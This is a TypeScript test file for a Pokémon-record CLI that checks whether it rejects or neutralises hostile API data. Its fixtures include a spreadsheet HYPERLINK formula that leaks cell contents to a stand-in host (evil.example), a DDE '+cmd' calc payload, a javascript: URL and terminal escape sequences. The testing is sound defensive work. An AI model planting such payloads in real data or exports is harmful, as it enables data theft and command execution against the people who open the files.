import { json, payload, startHostileApi, type HostileApi } from './helpers/hostile-api';
import { runCli, startWorker, type WorkerProcess } from './helpers/processes';
import { startTestRedis, type TestRedis } from './helpers/redis';

/**
 * What one payload may do to the store and to the terminals and spreadsheets that read it
 * (issue 11): oversized parts, a name that belongs to another record, escape sequences, formulas.
 * A real worker process stores what a hostile API answers; `get` and `export` show it.
 */
describe('records from a hostile API', () => {
  let redis: TestRedis;
  let api: HostileApi;
  let worker: WorkerProcess;
  let env: Record<string, string>;

  const enqueue = async (ids: string, ...flags: string[]) => {
    const r = await runCli(['enqueue', ids, '--wait', '--json', ...flags], env);
    return JSON.parse(r.stdout.trim().split('\n').at(-1)!) as { completed: number; failed: number; failures: Record<string, number> };
  };
  const answer = (id: number, patch: Record<string, unknown>) => api.pokemon.set(id, (_q, res) => json(res, 200, payload(id, patch), 'gzip'));
  const failedReason = async (id: number) => (await redis.client.hget(`rec:pokemon:pokemon-${id}`, 'failedReason')) ?? '';

  beforeAll(async () => {
    redis = await startTestRedis();
    api = await startHostileApi();
    env = { REDIS_URL: redis.url, POKEAPI_URL: api.url, QUEUE_PREFIX: 'rec', RATE_LIMIT_PER_SECOND: '0', JOB_ATTEMPTS: '2', JOB_BACKOFF_MS: '100', LOG_LEVEL: 'warn' };
    worker = await startWorker({ ...env, LOG_LEVEL: 'info' });
  });
  afterAll(async () => {
    await worker?.stop();
    await api?.close();
    await redis?.stop();
  });

  describe('parts too large for a record', () => {
    const cases: [number, string, Record<string, unknown>, string, RegExp][] = [
      [101, '1,000 abilities', { abilities: Array.from({ length: 1000 }, (_, i) => ({ ability: { name: `a${i}` }, is_hidden: false, slot: i })) }, 'bad_payload', /has 1000 abilities \(at most 16\)/],
      [102, '1 M abilities (the issue\'s 35.8 MB record)', { abilities: Array.from({ length: 1_000_000 }, () => ({ ability: { name: 'a' }, slot: 1 })) }, 'too_large', /HTTP_MAX_BODY_BYTES/],
      [103, 'a 5 MB name', { name: 'n'.repeat(5_000_000) }, 'too_large', /HTTP_MAX_BODY_BYTES/],
      [104, 'a 101-character name', { name: 'n'.repeat(101) }, 'bad_payload', /has a name of 101 characters \(at most 100\)/],
      [105, '9 types', { types: Array.from({ length: 9 }, (_, i) => ({ slot: i, type: { name: `t${i}` } })) }, 'bad_payload', /has 9 types \(at most 8\)/],
      [106, '17 stats', { stats: Array.from({ length: 17 }, (_, i) => ({ base_stat: 1, stat: { name: `s${i}` } })) }, 'bad_payload', /has 17 stats \(at most 16\)/],
      [107, 'a javascript: sprite', { sprites: { front_default: 'javascript:alert(1)' } }, 'bad_payload', /sprite that is not an http\(s\) URL/],
      [108, 'escape sequences in its name', { name: 'p108\u001b]0;pwned\u0007\u001b[2J' }, 'bad_payload', /has a name with control characters/],
      [109, 'a right-to-left override in a type', { types: [{ slot: 1, type: { name: 'grass\u202e' } }] }, 'bad_payload', /has a type name with control characters/],
      [110, 'a right-to-left override in its name', { name: 'p110\u202eevil' }, 'bad_payload', /has a name with control characters; body starts: .*p110\\u202eevil/],
    ];
    let outcome: Awaited<ReturnType<typeof enqueue>>;
    beforeAll(async () => {
      for (const [id, , patch] of cases) answer(id, patch);
      outcome = await enqueue(cases.map(([id]) => id).join(','));
    }, 60_000);

    it('fails each at once, storing nothing', async () => {
      expect(outcome).toMatchObject({ completed: 0, failed: cases.length, failures: { bad_payload: 8, too_large: 2 } });
      expect(await redis.client.hlen('rec:records')).toBe(0);
      expect(api.requests).toHaveLength(cases.length);
    });

    it.each(cases.map(([id, what, , reason, message]) => [what, id, reason, message] as const))('says why for %s', async (_what, id, _reason, message) => {
      expect(await failedReason(id)).toMatch(message);
    });

    it('shows control characters the API sent as escapes in the failure reason', async () => {
      for (const id of [108, 109, 110]) expect(await failedReason(id)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
      expect(await failedReason(108)).toContain('p108\\u001b]0;pwned\\u0007');
    });
  });

  describe('names: one payload cannot take another record\'s name', () => {
    beforeAll(async () => {
      for (const id of [5, 6, 7, 8, 9]) answer(id, {});
      answer(26, { name: 'p5' }); // claims #5's name, fetched after it
      answer(27, { name: 'p7' }); // claims #7's name, fetched before it
      expect((await enqueue('5,26')).completed).toBe(2);
      expect((await enqueue('27')).completed).toBe(1);
      expect((await enqueue('7')).completed).toBe(1);
    }, 60_000);

    const get = async (key: string) => {
      const r = await runCli(['get', key, '--json'], env);
      return r.code === 0 ? (JSON.parse(r.stdout) as { id: number; name: string }) : r.code;
    };

    it('keeps a name with the record it belongs to (a payload for 26 named p5 leaves p5 at #5)', async () => {
      expect(await get('p5')).toMatchObject({ id: 5 });
      expect(await get('26')).toMatchObject({ id: 26, name: 'p5' });
    });

    it('gives a contested name to the lower id whatever the order they came in', async () => {
      expect(await get('p7')).toMatchObject({ id: 7 });
    });

    it('lets a name follow a rename, and forgets the old one', async () => {
      answer(8, { name: 'new8' });
      expect((await enqueue('8', '--refresh')).completed).toBe(1);
      expect(await get('new8')).toMatchObject({ id: 8 });
      expect(await get('p8')).toBe(1); // not stored: #8 is not called that any more
      answer(9, { name: 'p8' }); // and the name is free for another
      expect((await enqueue('9', '--refresh')).completed).toBe(1);
      expect(await get('p8')).toMatchObject({ id: 9 });
    });
  });

  describe('what reaches a terminal or a spreadsheet', () => {
    beforeAll(async () => {
      answer(40, { name: '=hyperlink("http://evil.example/?x="&a1,"open")', species: { name: '+cmd|\' /c calc\'!a0' } });
      answer(41, { name: '@sum(1+1)', types: [{ slot: 1, type: { name: '-2+3' } }] });
      expect((await enqueue('40,41')).completed).toBe(2);
      // A record stored before names were checked (or by another writer): escapes, a bare CR, a tab.
      const legacy = {
        id: 42, name: 'p42\u001b]0;pwned\u0007\u001b[2J\u0000', height: 1, weight: 1, baseExperience: 1, order: 42, isDefault: false,
        species: '\tsp\rx', types: ['grass\u202eevil'], abilities: [{ name: 'a\u009b31m', hidden: false }], stats: { hp: 1 },
        sprite: null, moveCount: 0, fetchedAt: new Date(0).toISOString(), sourceUrl: 'http://x/pokemon/42/',
      };
      await redis.client.hset('rec:records', '42', JSON.stringify(legacy));
    }, 60_000);

    it('get shows escape sequences as text, never as control characters', async () => {
      const r = await runCli(['get', '42'], env);
      expect(r.code).toBe(0);
      // eslint-disable-next-line no-control-regex
      expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(r.stdout).toContain('#42 p42\\x1b]0;pwned\\x07\\x1b[2J\\x00 (form of \\x09sp\\x0dx)');
      expect(r.stdout).toContain('types: grass\\u202eevil');
      expect(r.stdout).toContain('abilities: a\\x9b31m');
    });

    it('get --json and export escape what JSON.stringify would leave raw (C1, bidi), as valid JSON of the same value', async () => {
      const r = await runCli(['get', '42', '--json'], env);
      expect(r.stdout).not.toMatch(/[\u007f-\u009f\u202e]/);
      expect(JSON.parse(r.stdout).types).toEqual(['grass\u202eevil']);
      const jsonl = await runCli(['export'], env);
      expect(jsonl.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(jsonl.stdout.trim().split('\n').map((l) => JSON.parse(l).id)).toContain(42);
    });

    it('export --format csv neutralises formulas and quotes CR (OWASP CSV injection)', async () => {
      const r = await runCli(['export', '--format', 'csv'], env);
      expect(r.code).toBe(0);
      const rows = parseCsv(r.stdout);
      const byId = new Map(rows.slice(1).map((row) => [row[0], row]));
      expect(byId.get('40')!.slice(1, 3)).toEqual(['\'=hyperlink("http://evil.example/?x="&a1,"open")', '\'+cmd|\' /c calc\'!a0']);
      expect(byId.get('41')![1]).toBe('\'@sum(1+1)');
      expect(byId.get('41')![4]).toBe('\'-2+3');
      // The legacy record: a leading tab is neutralised, the CR stays inside its quoted cell, ESC shows as text.
      expect(byId.get('42')![2]).toBe('\'\tsp\rx');
      expect(byId.get('42')![1]).toBe('p42\\x1b]0;pwned\\x07\\x1b[2J\\x00');
      expect(rows.every((row) => row.length === rows[0]!.length)).toBe(true);
      // No cell anywhere starts with a formula character.
      for (const row of rows) for (const cell of row.slice(1)) expect([row[0], cell]).not.toEqual([row[0], expect.stringMatching(/^[=+\-@\t\r]/)]);
    });

    it('export --out a directory is a clear error, not a stack trace', async () => {
      const r = await runCli(['export', '--out', '/tmp'], env);
      expect(r.code).toBe(2);
      expect(r.stderr).toBe('error: --out: cannot write to /tmp: it is a directory (name a file inside it)\n');
      const missing = await runCli(['export', '--out', '/nonexistent-dir/x.csv'], env);
      expect(missing.code).toBe(2);
      expect(missing.stderr).toMatch(/^error: --out: cannot write to \/nonexistent-dir\/x\.csv: its folder does not exist\n$/);
    });
  });
});

/** RFC 4180, enough for the export: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  return rows;
}
